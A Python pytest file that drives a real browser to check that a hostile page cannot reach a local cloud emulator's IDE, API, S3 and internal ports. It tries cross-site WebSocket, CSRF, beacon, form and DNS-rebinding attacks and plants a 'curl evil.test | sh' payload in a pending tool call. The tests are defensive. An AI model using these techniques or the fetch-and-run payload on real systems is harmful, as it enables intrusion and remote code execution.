"""A real browser opens a hostile page while the system runs: the page gets nothing. A page on this machine works.

The page's server is also on this machine, under a name that the browser treats as another site. So the system must
refuse the page; the browser does not.
"""

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from botocore.auth import S3SigV4QueryAuth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from codelab_local import LocalCloud

from tests.fakes.http import Exchange, HttpServer
from tests.fakes.ide.ide import Ide
from tests.security.chromium import Chromium, Page
from tests.security.raw import new_names, sessions

#: A page's attempts; each returns what it got, or null.
ATTACKS = """
const seconds = (n) => new Promise((done) => setTimeout(() => done(null), n * 1000));
const socket = (address, frames) => Promise.race([seconds(20), new Promise((done) => {
  const ws = new WebSocket(address);
  ws.onopen = () => {
    frames.forEach((frame) => ws.send(JSON.stringify(frame)));
    setTimeout(() => done('open'), 2000);
  };
  ws.onmessage = (event) => { if (!frames.length) done(event.data); };
  ws.onerror = () => done(null);
})]);
const read = (address, options) => fetch(address, options).then((answer) => answer.text()).catch(() => null);
const element = (name, address) => Promise.race([seconds(20), new Promise((done) => {
  const made = document.createElement(name);
  made.onload = () => done('loaded');
  made.onerror = () => done(null);
  made.src = address;
  document.body.append(made);
})]);
"""


def page(exchange: Exchange) -> None:
    """An empty page, or a redirect."""
    path, _, query = exchange.path.partition("?")
    leads = {"Location": query} if path == "/redirect" else {}
    headers = {**leads, "Content-Type": "text/html", "Access-Control-Allow-Origin": "*"}
    exchange.answer(307 if leads else 200, b"<!doctype html><title>a page</title><body></body>", headers)


@pytest.fixture(scope="module")
def site() -> Iterator[int]:
    """The port of a web server."""
    with HttpServer(page) as running:
        yield running.port


@pytest.fixture
def hostile(browser: Chromium, site: int) -> Page:
    return browser.open(f"http://evil.test:{site}/")


@pytest.fixture(scope="module")
def local(browser: Chromium, site: int) -> Page:
    """A page of a web IDE in development."""
    return browser.open(f"http://127.0.0.1:{site}/")


def reaches(page: Page, cloud: LocalCloud) -> None:
    """Wait until the page has left for the system."""
    page.wait_for(f"location.port === '{cloud.info['port']}' && document.readyState === 'complete'")


def test_a_hostile_page_cannot_change_a_pending_approval(demo_cloud: LocalCloud, hostile: Page) -> None:
    """The attack: join as a viewer and edit the pending call, so that the IDE executes the page's command."""
    name = next(new_names)
    with Ide(demo_cloud.url(name)) as ide:
        call = ide.call_for("Создай файл test.py")
        assert call["requires_approval"] is True
        edited = {**call["arguments"], "content": "import os; os.system('curl evil.test | sh')"}
        frame = {"type": "hitl_decision", "call_id": call["call_id"], "decision": "edit"}
        frame["modified_arguments"] = edited
        for host in ("localhost", "127.0.0.1"):
            address = demo_cloud.url(name).replace("127.0.0.1", host)
            assert hostile.run(f"{ATTACKS} return await socket({_js(address)}, [{_js(frame)}])") is None
            assert hostile.run(f"{ATTACKS} return await socket({_js(address)}, [])") is None
        ide.send("hitl_decision", call_id=call["call_id"], decision="approve")
        told = ide.expect("tool_call")
        assert (told["arguments"], told["requires_approval"]) == (call["arguments"], False)


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"])
def test_a_hostile_page_can_neither_read_nor_write(demo_cloud: LocalCloud, hostile: Page, site: int, host: str) -> None:
    api = f"{demo_cloud.http}/api/v1".replace("127.0.0.1", host)
    created = [next(new_names) for _ in range(6)]
    httpx.post(f"{demo_cloud.http}/api/v1/sessions", json={"session_id": (own := next(new_names))}, timeout=60)
    text = "{'method': 'POST', 'body': JSON.stringify({'session_id': NAME}), MORE}"
    ways = [
        "",
        "'headers': {'Content-Type': 'text/plain'}",
        "'headers': {'Content-Type': 'application/json'}",
        "'mode': 'no-cors', 'headers': {'Content-Type': 'text/plain'}",
        "'mode': 'no-cors', 'referrerPolicy': 'no-referrer'",
    ]
    for session, way in zip(created, ways, strict=False):
        options = text.replace("NAME", _js(session)).replace("MORE", way)
        got = hostile.run(f"{ATTACKS} return await read({_js(f'{api}/sessions')}, {options})")
        assert not got, "an opaque answer is empty"
    # With a redirect, a beacon, and a form, which needs no script.
    options = text.replace("NAME", _js(created[-1])).replace("MORE", "'mode': 'no-cors'")
    there = f"http://evil.test:{site}/redirect?{api}/sessions"
    assert not hostile.run(f"{ATTACKS} return await read({_js(there)}, {options})")
    hostile.run(f"navigator.sendBeacon({_js(f'{api}/sessions')}, JSON.stringify({{session_id: {_js(created[0])}}}))")
    for address in (f"{api}/sessions", f"{api}/chat/history/{own}", f"{api}/chat/stream/{own}?last_seq=0&wait=0"):
        assert hostile.run(f"{ATTACKS} return await read({_js(address)})") is None
        assert not hostile.run(f"{ATTACKS} return await read({_js(address)}, {{mode: 'no-cors'}})")
    form = f"""
      const form = document.createElement('form');
      Object.assign(form, {{method: 'POST', enctype: 'text/plain', action: {_js(f"{api}/sessions")}}});
      const input = document.createElement('input');
      Object.assign(input, {{name: '{{"session_id": {_js(created[0])}, "title": "', value: '"}}'}});
      form.append(input); document.body.append(form); setTimeout(() => form.submit(), 100);"""
    hostile.run(form)
    reaches(hostile, demo_cloud)
    assert "ALLOWED_ORIGINS" in hostile.run("return document.body.innerText")
    assert not sessions(demo_cloud) & {*created}


@pytest.mark.parametrize("path", ["/docs", "/openapi.json", "/health", "/api/v1/sessions"])
def test_a_hostile_page_can_neither_embed_nor_open_anything(
    demo_cloud: LocalCloud, hostile: Page, site: int, path: str
) -> None:
    address = f"{demo_cloud.http}{path}"
    for name in ("img", "script"):
        assert hostile.run(f"{ATTACKS} return await element('{name}', {_js(address)})") is None
    hostile.run(f"setTimeout(() => {{ location.href = {_js(address)}; }}, 100)")
    reaches(hostile, demo_cloud)
    assert "cross-site" in hostile.run("return document.documentElement.innerText")


def test_dns_rebinding_gets_nothing(demo_cloud: LocalCloud, browser: Chromium) -> None:
    """Its name now resolves to our port, so all requests are same-origin."""
    port, name = demo_cloud.info["port"], next(new_names)
    page = browser.open(f"http://evil.test:{port}/health")
    assert page.run("return location.hostname") == "evil.test"
    for path in ("/health", "/api/v1/sessions", "/docs"):
        assert "ALLOWED_HOSTS" in page.run(f"return await fetch('{path}').then((answer) => answer.text())")
    options = f"{{method: 'POST', body: JSON.stringify({{session_id: {_js(name)}}})}}"
    assert "ALLOWED_HOSTS" in page.run(f"{ATTACKS} return await read('/api/v1/sessions', {options})")
    assert page.run(f"{ATTACKS} return await socket('ws://evil.test:{port}/ws/{name}', [])") is None
    # A list leaves out what was only connected to.
    assert httpx.get(f"{demo_cloud.http}/api/v1/sessions/{name}", timeout=60).status_code == 404


def test_a_hostile_page_gets_nothing_from_s3(demo_cloud: LocalCloud, hostile: Page) -> None:
    """It signs with formerly well-known keys, and asks for the table and the secrets."""
    for service, target in (
        ("dynamodb", "DynamoDB_20120810.ListTables"),
        ("secretsmanager", "secretsmanager.ListSecrets"),
        ("states", "AWSStepFunctions.ListStateMachines"),
    ):
        # In the URL, because a page needs a preflight to set Authorization.
        asked = AWSRequest("POST", f"{demo_cloud.http}/s3/")
        S3SigV4QueryAuth(Credentials("local", "local"), service, demo_cloud.info["region"]).add_auth(asked)
        headers = {"X-Amz-Target": target, "Content-Type": "application/x-amz-json-1.1"}
        options = {"method": "POST", "headers": headers, "body": "{}"}
        assert hostile.run(f"{ATTACKS} return await read({_js(asked.url)}, {_js(options)})") is None


def test_a_hostile_page_gets_nothing_from_the_other_ports(demo_cloud: LocalCloud, hostile: Page) -> None:
    for name in ("emulator", "internal"):
        address = "/".join(demo_cloud.info[name].split("/")[:3])
        for path in ("/", "/_local/functions", "/_ministack/health", "/v1/@connections/x"):
            assert hostile.run(f"{ATTACKS} return await read({_js(address + path)})") is None


def test_a_web_ide_on_this_machine_works(demo_cloud: LocalCloud, local: Page) -> None:
    """REST, the stream, the WebSocket and an upload, from a page on another port."""
    name = next(new_names)
    assert local.run("return location.hostname") == "127.0.0.1"
    for host in ("localhost", "127.0.0.1"):
        api, ws = f"http://{host}:{demo_cloud.info['port']}/api/v1", demo_cloud.url(name).replace("127.0.0.1", host)
        done = local.run(f"""
          const json = {{'Content-Type': 'application/json', 'Idempotency-Key': 'one'}};
          const post = (path, body) => fetch({_js(api)} + path,
            {{method: 'POST', headers: json, body: JSON.stringify(body)}}).then((answer) => answer.json());
          const session = await post('/sessions', {{session_id: {_js(name)}}});
          const ws = new WebSocket({_js(ws)} + '?extensions=1');
          const frames = [];
          const ticket = new Promise((done, failed) => {{
            ws.onerror = () => failed(new Error('no WebSocket'));
            ws.onmessage = (event) => {{
              const frame = JSON.parse(event.data);
              frames.push(frame.type);
              if (frame.type === 'upload_ticket') done(frame);
            }};
            ws.onopen = () => ws.send(JSON.stringify({{type: 'upload_request', bytes: 10}}));
          }});
          const given = await ticket;
          const headers = {{...given.headers}};
          delete headers['Content-Length'];  // the browser's own
          const put = await fetch(given.url, {{method: 'PUT', headers, body: 'x'.repeat(10)}});
          const said = await post('/chat/message', {{session_id: {_js(name)}, message: 'Hello'}});
          const stream = await fetch({_js(api)} + '/chat/stream/' + {_js(name)} + '?last_seq=0&wait=0');
          ws.close();
          return {{session: session.session_id, put: put.status, said: said.status, stream: stream.status, frames}};
        """)
        assert (done["session"], done["put"], done["stream"]) == (name, 200, 200)
        assert "upload_ticket" in done["frames"]


@pytest.mark.deep
def test_a_user_can_open_the_documentation(demo_cloud: LocalCloud, browser: Chromium) -> None:
    page = browser.open(f"http://localhost:{demo_cloud.info['port']}/docs")
    assert page.run("return document.title").startswith("CodeLab")
    assert page.run("return (await fetch('/openapi.json')).status") == 200
    made = page.run("return (await fetch('/api/v1/sessions', {method: 'POST', body: '{}'})).status")
    assert made in (200, 201)


@pytest.mark.deep
def test_the_documentation_renders_under_its_policy(demo_cloud: LocalCloud, browser: Chromium) -> None:
    page = browser.open(f"{demo_cloud.http}/docs")
    noted = "addEventListener('securitypolicyviolation', (event) => (window.violations ??= []).push(event.blockedURI))"
    page.command("Page.addScriptToEvaluateOnNewDocument", {"source": noted})
    page.go(f"{demo_cloud.http}/docs")
    operations = sum(map(len, httpx.get(f"{demo_cloud.http}/openapi.json", timeout=60).json()["paths"].values()))
    page.wait_for(f"document.querySelectorAll('.opblock-summary-method').length >= {operations} > 0")
    assert page.run("return window.violations ?? []") == []


def _js(value: Any) -> str:
    """A JavaScript literal."""
    return json.dumps(value)
